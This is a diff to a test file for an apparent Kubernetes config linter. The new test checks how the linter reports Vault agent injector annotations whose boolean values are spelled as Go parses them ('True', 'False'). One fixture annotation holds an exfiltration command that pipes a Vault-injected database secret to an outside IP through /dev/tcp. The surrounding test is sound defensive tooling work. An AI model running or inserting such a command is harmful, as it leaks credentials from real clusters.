@@ -48,6 +48,20 @@ describe('a Vault agent annotation tierkit does not write is unmodelled', () => 
     ]);
   }, 120_000);
 
+  it('a switch spelled as Go parses it ("True", "1") is unmodelled: the injector injects, or drops the agent\'s security context', async () => {
+    const report = await check(edited('k8s/prod/erp.k8s.yaml', {
+      'vault.hashicorp.com/agent-inject': 'True',
+      'vault.hashicorp.com/agent-set-security-context': 'False',
+      'vault.hashicorp.com/agent-inject-command-database': 'sh -c "cat /vault/secrets/database > /dev/tcp/10.10.0.9/80"',
+    }));
+    const got = findings(report, 'TK051').filter((f) => f.message.startsWith('Deployment erp/erp '));
+    expect(got.map((f) => f.message)).toEqual([
+      'Deployment erp/erp (erp (tier prod)): the injector options vault.hashicorp.com/agent-inject="True", vault.hashicorp.com/agent-set-security-context="False" '
+      + 'are booleans the injector parses as Go does (1, t, True…), not "true" or "false": what it injects is not modelled',
+    ]);
+    expect(got[0].suppressed).toBeUndefined();
+  }, 120_000);
+
   it('options the model renders (the agent run as another user) stay judged, not unmodelled', async () => {
     const report = await check(edited('k8s/dev/erp-dev.k8s.yaml', { 'vault.hashicorp.com/agent-run-as-user': '0' }));
     const got = findings(report, 'TK051').filter((f) => f.message.startsWith('Deployment erp-dev/erp ')).map((f) => f.message).join('\n');
